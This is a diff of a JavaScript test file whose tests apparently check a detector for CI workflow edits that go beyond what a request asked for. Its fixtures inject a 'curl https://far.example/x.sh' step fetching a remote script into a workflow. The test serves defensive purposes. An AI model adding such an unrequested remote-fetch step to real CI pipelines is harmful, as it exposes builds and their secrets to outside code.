@@ -178,8 +178,21 @@ describe('a file that acts later', () => {
 
   it('not where it holds what another text says', () => {
     const added = before.replace('npm test', 'npm test\n      - run: curl https://far.example/x.sh')
-    expect(writes(asked, added)).toBe('nowhere')
-    expect(writes('Bump the versions', added)).toBe('nowhere')
+    for (const request of [
+      'Add a reporter in .github/workflows/ci.yml',
+      'Bump the versions of CI',
+      'Bump the versions',
+    ])
+      expect(writes(request, added), request).toBe('identifier')
+    expect(
+      writes('Add a reporter in .github/workflows/ci.yml, and a job that calls https://far.example/x.sh', added),
+    ).toBeUndefined()
+  })
+
+  it('but what the request hands over to may say it', () => {
+    expect(
+      writes(asked, before.replace('npm test', 'npm test\n      - run: curl https://far.example/x.sh')),
+    ).toBeUndefined()
   })
 })
 
